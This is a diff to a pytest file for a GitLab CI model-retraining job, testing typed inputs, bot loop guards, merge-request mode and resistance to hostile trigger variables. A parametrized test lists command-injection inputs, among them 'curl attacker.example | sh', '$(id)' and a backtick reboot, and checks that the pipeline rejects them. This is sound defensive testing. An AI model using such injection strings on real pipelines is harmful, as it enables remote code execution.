@@ -1,10 +1,12 @@
 """The GitLab pipeline: its shape, and the retrain-model job run for real by gitlab-ci-local
-(shell executor) against a local bare Git remote."""
+(shell executor) against a local bare Git remote: what it commits, its loop guards, its typed
+inputs, its merge-request mode, and what a trigger that overrides variables can no longer do."""
 
 from __future__ import annotations
 
 import hashlib
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -14,6 +16,7 @@ from typing import Any
 import pytest
 import yaml
 
+from aiops_operator.retrain import RETRAIN_INPUT_PATTERNS, retrain_inputs
 from aiops_runtime.train import MANIFEST_FILE, METRICS_FILE, MODEL_FILE, REFERENCE_FILE, train
 from tests.delivery.delivery_helpers import REPO_ROOT, run
 
@@ -27,6 +30,9 @@ JOB_FILES = [".gitlab-ci.yml", MODELSERVICE, "hack/bump-modelservice.py", *ARTIF
 # gitlab-ci-local derives CI_PROJECT_PATH, CI_SERVER_HOST and CI_REGISTRY_IMAGE from origin.
 ORIGIN = "https://gitlab.example.com/aiops/aiops-quality.git"
 BOT = "aiops-retrain-bot"
+PUSH_TOKEN = "glpat-test-push-token"
+# The URL the job pushes to: the project's own, with the push token.
+PUSH_URL = f"https://oauth2:{PUSH_TOKEN}@gitlab.example.com/aiops/aiops-quality.git"
 
 
 def git(repo: Path, *args: str) -> str:
@@ -41,8 +47,15 @@ def run_bytes(*args: str | Path) -> bytes:
 
 
 def pipeline() -> dict[str, Any]:
-    """The pipeline definition."""
-    return yaml.safe_load(PIPELINE.read_text())
+    """The pipeline definition (the document after the spec:inputs header)."""
+    _header, body = yaml.safe_load_all(PIPELINE.read_text())
+    return body
+
+
+def pipeline_inputs() -> dict[str, Any]:
+    """The header's spec:inputs."""
+    header, _ = yaml.safe_load_all(PIPELINE.read_text())
+    return header["spec"]["inputs"]
 
 
 def test_stages_run_test_then_build_then_retrain() -> None:
@@ -59,11 +72,42 @@ def test_images_are_built_from_both_dockerfiles_and_tagged_with_the_commit() -> 
         assert (REPO_ROOT / dockerfile).is_file()
 
 
+def test_the_operator_sends_exactly_the_inputs_the_pipeline_declares() -> None:
+    declared = pipeline_inputs()
+    assert set(RETRAIN_INPUT_PATTERNS) == set(declared)
+    for name, spec in declared.items():
+        # GitLab anchors with ^...$; the operator's pattern is used with fullmatch.
+        assert spec["regex"] == f"^{RETRAIN_INPUT_PATTERNS[name].pattern}$", name
+        assert re.fullmatch(RETRAIN_INPUT_PATTERNS[name], str(spec["default"])), name
+    sent = retrain_inputs("team-a", "breast-cancer", "2026-12-02T04:00:00.123Z", 3.2e-07)
+    for name, value in sent.items():
+        assert value, name
+        assert re.search(declared[name]["regex"], value), (name, value)
+
+
+def test_retrain_model_takes_no_push_url_author_or_file_from_variables() -> None:
+    job = pipeline()["retrain-model"]
+    script = "\n".join(job["script"])
+    for name in ("RETRAIN_PUSH_URL", "RETRAIN_AUTHOR", "MODELSERVICE_FILE", "MODEL_DIR"):
+        assert name not in script
+        assert name not in job["variables"]
+    assert 'push_url="https://oauth2:${RETRAIN_PUSH_TOKEN}@${CI_SERVER_HOST}/' in script
+
+
 @pytest.fixture
 def ci_repo(tmp_path: Path) -> tuple[Path, Path]:
-    """(work tree, bare remote): a repository with the job's files, pushed to the remote."""
+    """(work tree, bare remote): a repository with the job's files, pushed to the remote. The
+    remote records the push options it receives in push-options.txt."""
     remote, work = tmp_path / "remote.git", tmp_path / "work"
     run("git", "init", "-q", "--bare", "-b", "main", remote)
+    run("git", "-C", remote, "config", "receive.advertisePushOptions", "true")
+    hook = remote / "hooks" / "pre-receive"
+    hook.write_text(
+        '#!/bin/sh\ni=0\nwhile [ $i -lt "${GIT_PUSH_OPTION_COUNT:-0}" ]; do\n'
+        '  eval "echo \\$GIT_PUSH_OPTION_$i" >> "$GIT_DIR/push-options.txt"; i=$((i+1))\n'
+        "done\ncat > /dev/null\n"
+    )
+    hook.chmod(0o755)
     run("git", "init", "-q", "-b", "main", work)
     for name in JOB_FILES:
         (work / name).parent.mkdir(parents=True, exist_ok=True)
@@ -75,10 +119,25 @@ def ci_repo(tmp_path: Path) -> tuple[Path, Path]:
     return work, remote
 
 
-def retrain(gitlab_ci_local: Path, work: Path, remote: Path, *variables: str) -> str:
-    """Run the retrain-model stage as a pipeline trigger would; returns its output."""
+def retrain(
+    gitlab_ci_local: Path,
+    work: Path,
+    remote: Path,
+    *variables: str,
+    inputs: tuple[str, ...] = (),
+    check: bool = True,
+) -> str:
+    """Run the retrain-model stage as a pipeline trigger would; returns its output. Git sends
+    the job's push to the project's URL to the local remote instead (url.<remote>.insteadOf):
+    the job itself has no way to push elsewhere."""
     venv_bin = Path(sys.executable).parent  # aiops-runtime and python3 with the runtime's libs
-    env = {**os.environ, "PATH": f"{venv_bin}{os.pathsep}{os.environ['PATH']}"}
+    env = {
+        **os.environ,
+        "PATH": f"{venv_bin}{os.pathsep}{os.environ['PATH']}",
+        "GIT_CONFIG_COUNT": "1",
+        "GIT_CONFIG_KEY_0": f"url.{remote}.insteadOf",
+        "GIT_CONFIG_VALUE_0": PUSH_URL,
+    }
     args = [
         *(
             "--stage",
@@ -89,17 +148,25 @@ def retrain(gitlab_ci_local: Path, work: Path, remote: Path, *variables: str) ->
         ),
         *("--ignore-predefined-vars", "CI_PIPELINE_SOURCE,CI_COMMIT_AUTHOR"),
         *("--variable", "CI_PIPELINE_SOURCE=trigger"),
-        *("--variable", f"RETRAIN_PUSH_URL={remote}"),
+        *("--variable", f"RETRAIN_PUSH_TOKEN={PUSH_TOKEN}"),  # a project variable in GitLab
     ]
     for variable in variables:
         args += ["--variable", variable]
-    proc = run(gitlab_ci_local, *args, cwd=work, env=env, timeout=600)
+    for value in inputs:
+        args += ["--input", value]
+    proc = run(gitlab_ci_local, *args, cwd=work, env=env, timeout=600, check=check)
     return proc.stdout + proc.stderr
 
 
-def remote_log(remote: Path) -> list[str]:
-    """Commit hashes of the remote's main, newest first."""
-    return run("git", "-C", remote, "log", "--format=%H", "main").stdout.split()
+def remote_log(remote: Path, ref: str = "main") -> list[str]:
+    """Commit hashes of the remote's `ref`, newest first."""
+    return run("git", "-C", remote, "log", "--format=%H", ref).stdout.split()
+
+
+def remote_branches(remote: Path) -> list[str]:
+    """The remote's branch names."""
+    out = run("git", "-C", remote, "for-each-ref", "--format=%(refname:short)", "refs/heads")
+    return out.stdout.split()
 
 
 @pytest.mark.integration
@@ -147,6 +214,9 @@ def test_retrain_model_does_not_run_again_on_its_own_commit(
     # Without that variable the job starts, and its own check of HEAD's author stops it.
     out = retrain(gitlab_ci_local, work, remote, "RETRAIN_SEED=8")
     assert f"HEAD is a commit of {BOT}; not retraining on it" in out
+    # The guard's name is not a variable: a trigger cannot rename the bot to get past it.
+    out = retrain(gitlab_ci_local, work, remote, "RETRAIN_SEED=8", "RETRAIN_AUTHOR_NAME=Dev")
+    assert f"HEAD is a commit of {BOT}; not retraining on it" in out
     assert remote_log(remote) == after_first
 
 
@@ -169,3 +239,95 @@ def test_retrain_with_unchanged_artifacts_and_image_commits_nothing(
     out = retrain(gitlab_ci_local, work, remote, "RETRAIN_SEED=42", *same_image)
     assert "already points at these artifacts; nothing to commit" in out
     assert remote_log(remote) == before
+
+
+@pytest.mark.integration
+def test_a_trigger_overriding_the_old_variables_still_pushes_only_the_named_modelservice(
+    gitlab_ci_local: Path, ci_repo: tuple[Path, Path], tmp_path: Path
+) -> None:
+    """The variables retrain-model used to take its push URL, bot name and files from, set as
+    a hostile trigger would: none of them has any effect any more."""
+    work, remote = ci_repo
+    elsewhere = tmp_path / "attacker.git"
+    run("git", "init", "-q", "--bare", "-b", "main", elsewhere)
+    (work / "examples" / "decoy.yaml").write_text("kind: ConfigMap\n")
+    git(work, "add", "examples/decoy.yaml")
+    git(work, "commit", "-q", "-m", "docs: another file")
+    git(work, "push", "-q", str(remote), "main")
+    before = remote_log(remote)
+    out = retrain(
+        gitlab_ci_local, work, remote, "RETRAIN_SEED=7",
+        f"RETRAIN_PUSH_URL={elsewhere}", "RETRAIN_AUTHOR_NAME=Mallory",
+        "MODELSERVICE_FILE=examples/decoy.yaml", "MODEL_DIR=examples",
+        inputs=("modelservice=breast-cancer", "namespace=aiops-quality"),
+    )  # fmt: skip
+    assert "PASS  retrain-model" in out, out
+    assert run("git", "-C", elsewhere, "for-each-ref").stdout == "", "nothing reached elsewhere"
+    new = remote_log(remote)[0]
+    assert remote_log(remote)[1:] == before
+    assert run("git", "-C", remote, "log", "-1", "--format=%an", new).stdout.strip() == BOT
+    changed = run("git", "-C", remote, "diff", "--name-only", f"{new}~1", new).stdout.split()
+    assert MODELSERVICE in changed
+    assert set(changed) <= {MODELSERVICE, *ARTIFACTS}
+    assert PUSH_TOKEN not in out.replace(f"RETRAIN_PUSH_TOKEN={PUSH_TOKEN}", "")
+
+
+@pytest.mark.integration
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "modelservice=../../charts",
+        "modelservice=x; curl attacker.example | sh",
+        "namespace=$(id)",
+        "drift_time=now`reboot`",
+        "drift_p_value=0.01 && true",
+    ],
+)
+def test_inputs_outside_their_patterns_are_refused_before_any_job_runs(
+    gitlab_ci_local: Path, ci_repo: tuple[Path, Path], hostile: str
+) -> None:
+    work, remote = ci_repo
+    before = remote_log(remote)
+    out = retrain(gitlab_ci_local, work, remote, inputs=(hostile,), check=False)
+    assert "does not match required regex" in out, out
+    assert "PASS  retrain-model" not in out
+    assert remote_log(remote) == before
+
+
+@pytest.mark.integration
+def test_a_modelservice_not_in_the_repository_is_refused_without_a_commit(
+    gitlab_ci_local: Path, ci_repo: tuple[Path, Path]
+) -> None:
+    """Another team's drift cannot bump the example: the job bumps only what the trigger names."""
+    work, remote = ci_repo
+    before = remote_log(remote)
+    out = retrain(
+        gitlab_ci_local, work, remote, "RETRAIN_SEED=7",
+        inputs=("modelservice=breast-cancer", "namespace=team-b"), check=False,
+    )  # fmt: skip
+    assert "no ModelService team-b/breast-cancer in examples/modelservice*.yaml" in out, out
+    assert "FAIL  retrain-model" in out
+    assert remote_log(remote) == before
+
+
+@pytest.mark.integration
+def test_merge_request_mode_pushes_a_retrain_branch_and_asks_for_a_merge_request(
+    gitlab_ci_local: Path, ci_repo: tuple[Path, Path]
+) -> None:
+    work, remote = ci_repo
+    before = remote_log(remote)
+    out = retrain(
+        gitlab_ci_local, work, remote, "RETRAIN_SEED=7", "RETRAIN_MERGE_REQUEST=true",
+        inputs=("modelservice=breast-cancer", "namespace=aiops-quality"),
+    )  # fmt: skip
+    assert "PASS  retrain-model" in out, out
+    assert remote_log(remote) == before, "the default branch is not pushed to"
+    (branch,) = [b for b in remote_branches(remote) if b != "main"]
+    assert re.fullmatch(r"retrain/aiops-quality-breast-cancer-[0-9a-f]{12}", branch)
+    assert remote_log(remote, branch)[1:] == before
+    options = (remote / "push-options.txt").read_text().split()
+    assert options == [
+        "merge_request.create",
+        "merge_request.target=main",
+        "merge_request.remove_source_branch",
+    ]
